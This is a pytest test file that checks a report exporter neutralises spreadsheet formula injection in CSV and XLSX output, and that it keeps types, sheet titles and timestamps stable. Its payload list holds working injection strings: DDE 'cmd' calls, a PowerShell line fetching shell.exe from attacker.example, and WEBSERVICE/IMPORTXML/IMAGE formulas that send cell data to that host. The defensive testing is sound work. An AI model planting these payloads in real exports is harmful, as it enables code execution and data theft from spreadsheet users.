"""Tables as files: a text stays a text whatever it begins with, a number a number, and nothing depends on when."""

import csv
from datetime import UTC, date, datetime, timedelta, timezone
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assessment.reports.sheets import Sheet, is_formula_like, sheet_csv, workbook

AT = datetime(2026, 3, 31, 14, 5, 9, tzinfo=UTC)
PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "==1",
    "=",
    "+1+1",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Open\")",
    "=WEBSERVICE(\"https://attacker.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/\",A1),\"//a\")",
    "=IMPORTDATA(\"https://attacker.example\")",
    "=IMAGE(\"https://attacker.example/?\"&A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t",
    "\tsafe after a tab",
    "\rsafe after a return",
    "\0=1+1",
    " =1+1",
    "   +1",
    "\xa0=1+1",
    "\u2003@A1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b=1+1",
    "\x1f-1",
    "\u2028=1",
    " \t \u200b =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " ＝1+1",
    "\t＝1+1",
    "\u3000＝HYPERLINK(\"https://attacker.example\")",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "-5",
    "+49 30 1234567",
    "- a list item",
    "@team please look",
]  # fmt: skip
HARMLESS = [
    "",
    "plain",
    "a=b",
    "1+1",
    "'=1+1",
    "a, b; c",
    'She said "no"',
    "two\nlines",
    "–5 to 3",
    "−5",
    "München ist größer",
    "🚢",
    "https://wiki.example/?a=b",
    "#N/A",
    "TRUE",
    "007",
]
XML_TEXT = st.text(
    st.characters(codec="utf-8", exclude_characters="\r", exclude_categories=["Cs", "Cc"]) | st.just("\n")
)


def xlsx(*sheets, at=AT):
    """The workbook of these tables, read back."""
    return load_workbook(BytesIO(workbook(sheets, title="Report", at=at)))


def texts(*values):
    """A table of one column."""
    return Sheet("Texts", ("text",), tuple((value,) for value in values))


def storable(text):
    """A payload without what no XML can hold, and with the line ends of a spreadsheet."""
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(character for character in plain if character >= " " or character in "\t\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_cannot_run_in_csv(payload):
    assert is_formula_like(payload)

    rows = list(csv.reader(StringIO(sheet_csv(texts(payload)), newline="")))

    assert rows == [["text"], [f"'{payload}"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_a_text_in_a_workbook_and_stays_one_when_it_is_edited(payload):
    cell = xlsx(texts(payload))["Texts"]["A2"]

    assert (cell.value or "", cell.data_type) == (storable(payload), "s" if storable(payload) else "n")
    assert cell.quotePrefix or not is_formula_like(storable(payload))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    rows = list(csv.reader(StringIO(sheet_csv(texts(text, "end")), newline="")))
    cell = xlsx(texts(text))["Texts"]["A2"]

    assert [row[0] if row else "" for row in rows] == ["text", text, "end"]
    assert (cell.value or "", bool(cell.quotePrefix)) == (text, False)
    assert not is_formula_like(text)


@given(XML_TEXT)
def test_text_comes_out_of_a_workbook_as_it_went_in(text):
    cell = xlsx(texts(text))["Texts"]["A2"]

    assert (cell.value or "").replace("_x005F_", "_") == text.replace("_x005F_", "_")
    assert cell.data_type != "f"


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2), max_size=5))
def test_text_comes_out_of_csv_as_it_went_in_but_for_the_apostrophe(rows):
    sheet = Sheet("Texts", ("a", "b"), tuple(map(tuple, rows)))

    read = list(csv.reader(StringIO(sheet_csv(sheet), newline="")))

    assert read[1:] == [[f"'{text}" if is_formula_like(text) else text for text in row] for row in rows]


@given(st.text())
def test_no_text_at_all_breaks_a_workbook(text):
    book = xlsx(Sheet(text, (text,), ((text,),)))

    assert {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row} <= {"s", "n"}  # n: empty


def test_head_of_a_table_cannot_run_either():
    sheet = Sheet("Head", ("=1+1", "b"), ())

    assert sheet_csv(sheet) == "'=1+1,b\r\n"
    assert [(cell.value, cell.data_type) for cell in xlsx(sheet)["Head"][1]] == [("=1+1", "s"), ("b", "s")]


def test_numbers_and_days_keep_their_types_in_a_workbook():
    berlin = timezone(timedelta(hours=2))
    row = (3, -4.5, True, date(2026, 3, 31), datetime(2026, 3, 31, 16, 5, tzinfo=berlin), None, "3")

    cells = xlsx(Sheet("Types", tuple("abcdefg"), (row,)))["Types"][2]

    assert [(cell.value, cell.data_type, cell.number_format) for cell in cells] == [
        (3, "n", "General"),
        (-4.5, "n", "General"),
        (True, "b", "General"),
        (datetime(2026, 3, 31), "d", "yyyy-mm-dd"),
        (datetime(2026, 3, 31, 14, 5), "d", "yyyy-mm-dd hh:mm"),
        (None, "n", "General"),
        ("3", "s", "General"),
    ]


def test_numbers_stay_numbers_in_csv():
    row = (3, -4.5, 25.0, True, date(2026, 3, 31), datetime(2026, 3, 31, 14, 5, tzinfo=UTC), None, "-3")

    assert sheet_csv(Sheet("Types", ("a",), (row,))) == (
        "a\r\n3,-4.5,25,TRUE,2026-03-31,2026-03-31T14:05:00+00:00,,'-3\r\n"
    )


def test_csv_quotes_what_it_must():
    assert sheet_csv(texts('a "b", c', "two\r\nlines")) == 'text\r\n"a ""b"", c"\r\n"two\r\nlines"\r\n'


@pytest.mark.parametrize(
    ("wanted", "titles"),
    [
        (["Plan"], ["Plan"]),
        (["a/b\\c[d]:e*f?"], ["a b c d e f"]),
        (["", "'", "\0"], ["Sheet", "Sheet 2", "Sheet 3"]),
        (["Plan", "plan", "PLAN"], ["Plan", "plan 2", "PLAN 3"]),
        (
            ["Datenschutzfolgenabschätzungsverfahren", "Datenschutzfolgenabschätzungsverfahren"],
            ["Datenschutzfolgenabschätzungsve", "Datenschutzfolgenabschätzungs 2"],
        ),
    ],
)
def test_sheet_titles_are_such_as_excel_takes_and_differ(wanted, titles):
    assert xlsx(*(Sheet(title, ("a",), ()) for title in wanted)).sheetnames == titles


def test_head_stays_in_view_and_is_bold_and_columns_fit_their_text():
    sheet = xlsx(Sheet("Plan", ("no", "practice"), ((1, "x" * 30 + "\n" + "y" * 200), (2, "short"))))["Plan"]

    assert sheet.freeze_panes == "A2"
    assert [cell.font.bold for cell in sheet[1]] == [True, True]
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [8, 60]
    assert {cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row} == {True}


def test_text_longer_than_a_cell_is_cut_to_what_excel_opens():
    cell = xlsx(texts("🚢" * 20_000))["Texts"]["A2"]

    assert cell.value == "🚢" * 16_383


def test_same_tables_give_the_same_bytes_and_name_one_moment():
    sheets = [texts("=1+1", "b"), Sheet("Numbers", ("n",), ((1,), (2.5,)))]

    first, second = (workbook(sheets, title="Report of Nova", at=AT) for _ in range(2))

    assert first == second
    with ZipFile(BytesIO(first)) as parts:
        assert {part.date_time for part in parts.infolist()} == {(2026, 3, 31, 14, 5, 8)}
    properties = load_workbook(BytesIO(first)).properties
    assert (properties.title, properties.creator) == ("Report of Nova", "Shipworthy")
    assert properties.created == properties.modified == datetime(2026, 3, 31, 14, 5, 9)
